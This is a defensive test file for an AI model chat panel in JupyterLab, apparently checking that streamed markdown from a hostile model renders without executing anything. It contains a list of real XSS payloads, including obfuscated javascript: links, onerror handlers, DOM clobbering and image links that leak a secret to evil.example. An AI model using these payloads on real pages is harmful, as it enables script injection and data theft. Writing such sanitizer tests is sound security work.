import { render } from 'preact';
import { expect, test } from 'vitest';
import { Connections } from '../src/chat/connections';
import { begin } from '../src/chat/conversation';
import { Intents } from '../src/chat/intents';
import { destination, speaksForItself } from '../src/chat/markdown/url';
import { Store } from '../src/chat/store';
import type { Panel } from '../src/chat/view/context';
import { PanelContext } from '../src/chat/view/context';
import { Markdown } from '../src/chat/view/markdown';
import { Place, Script } from './script';
import { Screen } from './screen';

/** SECURITY §3.B: what a hostile model would write. */
const PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">click</button>',
  '<div data-commandlinker-command="x"><b>**bold**</b></div>',
  '<div class="jp-Dialog" style="position:fixed;inset:0">Your session expired</div>',
  '<script id="jupyter-config-data">{"baseUrl":"https://evil.example"}</script>',
  '<form id=jupyter-config-data action="https://evil.example"><input name=body><button form=x>Go</button></form>',
  '<input type=image src="https://evil.example/a.png" form="f">',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<svg><image href="https://evil.example/a.svg"/><script>1</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=1></style></mglyph></table></mtext></math>',
  '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
  '<video poster="https://evil.example/a.png" src="https://evil.example/v"></video>',
  '<link rel=stylesheet href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<a id=x name=y href="javascript:window.__pwned=1" onclick="window.__pwned=1">a</a>',
  '<details open ontoggle="window.__pwned=1"><summary>s</summary></details>',
  '![alt](https://evil.example/a.png?d=secret)',
  '![alt][ref]\n\n[ref]: https://evil.example/a.png "t"',
  '[![alt](https://evil.example/a.png)](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+) ![y](file:///etc/passwd) ![z](//evil.example/a.png)',
  '[a](javascript:window.__pwned=1)',
  '[a](JaVaScRiPt:alert(1)) [b](&#106;avascript:alert(1)) [c](java&Tab;script:alert(1))',
  '[a](<java\tscript:alert(1)>) [b](java%0ascript:alert(1)) [c](\u0001javascript:alert(1))',
  '[a](vbscript:x) [b](data:text/html,<script>1</script>) [c](file:///etc/passwd) [d](blob:https://x/y)',
  '[a](//evil.example) [b](/lab/api) [c](../x.ipynb) [d](#id) [e](?token=x)',
  '[a](https://user:pass@evil.example) [good.example](https://evil.example)',
  '<javascript:alert(1)> <https://evil.example/?q=1> www.evil.example me@evil.example',
  '[a][ref]\n\n[ref]: javascript:alert(1)',
  '[__proto__]: https://a.example\n[constructor]: https://b.example\n\n[__proto__] [constructor] [toString]',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```javascript:alert(1) onclick=x\ncode <b>\n```',
  '`<img src=x onerror=1>` **<b onclick=1>x</b>**',
  '| <img src=x> | [a](javascript:1) |\n|---|---|\n| ![i](https://evil.example/x) | <script>1</script> |',
  '- [ ] <input autofocus onfocus=1>\n- [x] [a](data:x)',
  '> <object data="https://evil.example"></object>\n> <embed src="https://evil.example">',
  '# <a name="main">x</a> {#clobber}\n\n[^1]: <img src=x>\n\nfoot[^1]',
  '$$\\href{javascript:alert(1)}{x}$$ \\includegraphics{https://evil.example}',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '\u202egnp.exe [\u202ehttps://good.example](https://evil.example)',
  `[long](https://evil.example/?q=${'a'.repeat(300)})`,
  '<img src="x" <b onerror=1>//">\n\n<!-- --!><img src=x onerror=1> -->',
  '<![CDATA[<img src=x onerror=1>]]><?php <img src=x onerror=1> ?><!DOCTYPE <img src=x onerror=1>>'
];

const ELEMENTS = new Set(
  (
    'ARTICLE DIV P SPAN STRONG EM DEL CODE PRE BR A SMALL DETAILS SUMMARY H3 H4 H5 H6 UL OL LI BLOCKQUOTE TABLE THEAD ' +
    'TBODY TR TH TD HR BUTTON svg path rect'
  ).split(' ')
);
const ATTRIBUTES = new Set(
  (
    'class href title target rel start tabindex type aria-label aria-busy aria-hidden focusable viewBox width height d ' +
    'fill stroke stroke-width stroke-linecap stroke-linejoin'
  ).split(' ')
);

function forbidden(root: Element): string[] {
  const found: string[] = [];
  for (const element of [root, ...root.querySelectorAll('*')]) {
    if (!ELEMENTS.has(element.tagName)) {
      found.push(element.tagName);
    }
    for (const { name, value } of element.attributes) {
      const foreign =
        name === 'class' && !value.split(' ').every(each => /^(jp-Assistant-|jp-mod-|coloured)/.test(each));
      if (!ATTRIBUTES.has(name) || foreign) {
        found.push(`${element.tagName} ${name}=${value}`);
      }
    }
    if (element instanceof HTMLAnchorElement && !/^(https?:\/\/|mailto:)/.test(element.getAttribute('href') ?? '')) {
      found.push(element.outerHTML);
    }
    if (element instanceof HTMLAnchorElement && element.rel !== 'noopener noreferrer') {
      found.push(element.outerHTML);
    }
  }
  return found;
}

/** What Markdown needs around it. */
function bare(): { panel: Panel } {
  const { signal } = new AbortController();
  const [store, host, transport] = [new Store(begin('k')), new Place(), new Script()];
  const surroundings = { store, host, transport, pause: () => Promise.resolve(), id: () => 'id' };
  const focus = (): void => undefined;
  const connections = new Connections(surroundings, signal);
  return { panel: { store, host, focus, signal, connections, intents: new Intents(surroundings, signal) } };
}

async function answered(text: string, size = text.length): Promise<Screen> {
  const screen = new Screen();
  await screen.ask('x');
  screen.stream.run();
  for (let at = 0; at < text.length; at += size) {
    screen.stream.token(text.slice(at, at + size));
  }
  screen.stream.done();
  await screen.shows('test/model');
  return screen;
}

test.each(PAYLOADS)('%j: nothing but our own elements and attributes', async payload => {
  const screen = await answered(`before\n\n${payload}\n\nafter`);
  expect(forbidden(screen.find('.jp-Assistant-answer'))).toEqual([]);
  expect(screen.text).toContain('after');
  expect('__pwned' in window).toBe(false);
  expect(document.getElementById('jupyter-config-data')).toBeNull();
});

test.each(PAYLOADS)('%j: every prefix is as harmless while it streams', payload => {
  const el = document.createElement('div');
  const { panel } = bare();
  for (let end = 1; end <= payload.length; end++) {
    render(
      <PanelContext.Provider value={panel}>
        <Markdown text={payload.slice(0, end)} whole={end === payload.length} />
      </PanelContext.Provider>,
      el
    );
    expect(forbidden(el)).toEqual([]);
  }
  render(null, el);
});

test('everything else the server sends is only text too', async () => {
  const bad = '<img src=x onerror=1>';
  const screen = new Screen();
  await screen.ask(bad);
  screen.stream
    .run('r', bad)
    .tell('status', { text: bad })
    .tell('context', { items: [{ kind: 'cell', label: bad, path: bad, cell_id: bad }] })
    .tell('reasoning', { text: bad })
    .tell('sources', [{ title: bad, path: bad, cell_id: bad, url: 'javascript:alert(1)', snippet: bad }])
    .tell('title', { text: bad })
    .tell('error', { code: bad, text: bad, hint: bad })
    .done('error');
  await screen.until(() => screen.all('.jp-Assistant-error').length === 1);
  expect(screen.all('img')).toEqual([]);
  expect(screen.text).toContain(bad);
});

test('links lead where they say, and say where they lead', async () => {
  const screen = await answered(
    '[good.example](https://evil.example/x) <https://plain.example/> [m](mailto:a@b.example)'
  );
  const hosts = screen.all('.jp-Assistant-host').map(each => each.textContent);
  expect(hosts).toEqual([' (evil.example)', ' (a@b.example)']);
  expect(screen.all('a').map(each => each.getAttribute('href'))).toEqual([
    'https://evil.example/x',
    'https://plain.example/',
    'mailto:a@b.example'
  ]);
});

test('a link that could carry data away is shown in full before it can be followed', async () => {
  const screen = await answered(`[click](https://evil.example/?q=${'a'.repeat(300)})`);
  const fold = screen.find('.jp-Assistant-longLink');
  expect(fold.hasAttribute('open')).toBe(false);
  expect(fold.querySelector('a')?.textContent).toContain('a'.repeat(300));
});

test.each([
  ['https://a.example/x', 'https://a.example/x', 'a.example'],
  [' HTTP://A.example ', 'http://a.example/', 'a.example'],
  ['mailto:a@b.example?subject=x', 'mailto:a@b.example?subject=x', 'a@b.example'],
  ['https://аpple.example', 'https://xn--pple-43d.example/', 'xn--pple-43d.example'],
  ['https://good.example\\@evil.example', 'https://good.example/@evil.example', 'good.example']
])('%j may be a link to %j', (raw, href, host) => {
  expect(destination(raw)).toMatchObject({ href, host });
});

test.each([
  'javascript:x',
  'java\nscript:x',
  '//x',
  '/x',
  'x',
  '',
  'https://u:p@x.example',
  'ftp://x',
  'about:blank',
  `https://x.example/${'a'.repeat(2_000)}`
])('%j may not be a link', raw => {
  expect(destination(raw)).toBeNull();
});

test('only its own address speaks for a link', () => {
  const to = destination('https://evil.example/x');
  expect(to && speaksForItself('evil.example', to)).toBe(true);
  expect(to && speaksForItself('https://evil.example/x', to)).toBe(true);
  expect(to && speaksForItself('good.example evil.example', to)).toBe(false);
});

test('two megabytes of text are shown to the end', async () => {
  const screen = await answered(`${'word '.repeat(400_000)}\n\nthe end`, 1_000_000);
  expect(screen.text).toContain('the end');
});
